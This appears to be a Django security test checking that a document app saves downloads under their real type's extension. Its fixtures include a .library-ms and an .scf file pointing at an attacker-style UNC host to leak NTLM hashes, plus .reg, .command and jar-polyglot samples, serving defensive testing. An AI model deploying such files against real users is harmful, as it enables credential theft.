"""The saved copy of a download is opened by its name: every download ends in its type's own extension.

Attack on a running DocuID (after issue #12 F14): text uploads named .msc (MMC runs script
through apds.dll, "GrimResource"), .library-ms / .searchConnector-ms / .scf / .theme /
.website (make Windows Explorer send the user's NTLM hash to an attacker's host), .reg,
.jnlp, .command ... were accepted and downloaded under those names, because uploads refuse
only a list of names. A list of dangerous names has no end; the list of our own types does.
"""

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse

from documents import filetypes, samples, services
from tests.security.conftest import login

pytestmark = pytest.mark.django_db

LIBRARY_MS = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">'
    b"<searchConnectorDescriptionList><searchConnectorDescription><simpleLocation>"
    b"<url>\\\\203.0.113.9\\share</url></simpleLocation></searchConnectorDescription>"
    b"</searchConnectorDescriptionList></libraryDescription>\n"
)
MSC = b'<?xml version="1.0"?>\n<MMC_ConsoleFile ConsoleVersion="3.0"><StringTable/></MMC_ConsoleFile>\n'


def _download_name(client, owner, name: str, data: bytes) -> str:
    document = services.document_upload(acting_user=owner, file=ContentFile(data, name=name), name=name)
    login(client, owner)
    response = client.get(reverse("documents:download", args=[document.pk]))
    assert response.status_code == 200
    return response["Content-Disposition"]


@pytest.mark.parametrize(
    ("name", "data", "saved_as"),
    [
        ("console.msc", MSC, "console.msc.txt"),
        ("Finance.library-ms", LIBRARY_MS, "Finance.library-ms.txt"),
        ("Finance.searchConnector-ms", LIBRARY_MS, "Finance.searchConnector-ms.txt"),
        ("desktop.scf", b"[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.9\\s\\x.ico\r\n", "desktop.scf.txt"),
        ("fix.reg", b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\X]\r\n", "fix.reg.txt"),
        ("run.command", b"#!/bin/sh\nopen -a Calculator\n", "run.command.txt"),
        ("README", b"no extension: the desktop would sniff the bytes\n", "README.txt"),
    ],
)
def test_a_text_file_under_a_name_the_desktop_runs_is_saved_as_text(client, owner, media, name, data, saved_as):
    assert f'filename="{saved_as}"' in _download_name(client, owner, name, data)


def test_an_office_zip_named_jar_is_saved_under_its_office_extension(client, owner, media):
    # An OOXML package is a zip: one that also carries a manifest runs as a Java archive.
    disposition = _download_name(client, owner, "tool.jar", samples.docx_bytes("polyglot"))
    assert 'filename="tool.jar.docx"' in disposition


@pytest.mark.parametrize(
    ("name", "mime_type"),
    [
        ("report.pdf", "application/pdf"),
        ("photo.jpeg", "image/jpeg"),
        ("notes.log", "text/plain"),
        ("table.csv", "text/csv"),
        ("Read me.md", "text/markdown"),
        ("Slides.PPTX", "application/vnd.openxmlformats-officedocument.presentationml.presentation"),
    ],
)
def test_names_that_already_end_in_their_types_extension_are_kept(name, mime_type):
    assert filetypes.download_name(name, mime_type) == name
